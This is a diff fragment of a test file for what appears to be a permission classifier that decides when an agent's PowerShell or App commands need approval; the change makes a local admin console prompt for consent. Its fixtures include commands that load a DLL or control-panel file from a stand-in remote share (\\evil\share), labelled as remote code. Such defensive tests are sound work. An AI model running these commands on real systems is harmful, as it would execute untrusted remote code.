@@ -76,7 +76,7 @@ def test_a_folder_holding_a_store_counts_when_taken_whole(command: str, expected
         ("PowerShell", {"command": r"Add-Type -Path \\evil\share\x.dll"}, ("remote-code", "ask")),
         ("App", {"mode": "launch", "name": "control", "args": r"\\evil\share\x.cpl"}, ("remote-code", "ask")),
         ("PowerShell", {"command": "control printers"}, None),
-        ("PowerShell", {"command": "mmc compmgmt.msc"}, None),
+        ("PowerShell", {"command": "mmc compmgmt.msc"}, ("admin-console", "ask")),  # a local console asks (S-RULE-154)
         ("PowerShell", {"command": "rundll32 shell32.dll,Control_RunDLL desk.cpl"}, None),
         ("PowerShell", {"command": "Add-Type -AssemblyName System.Windows.Forms"}, None),
     ],
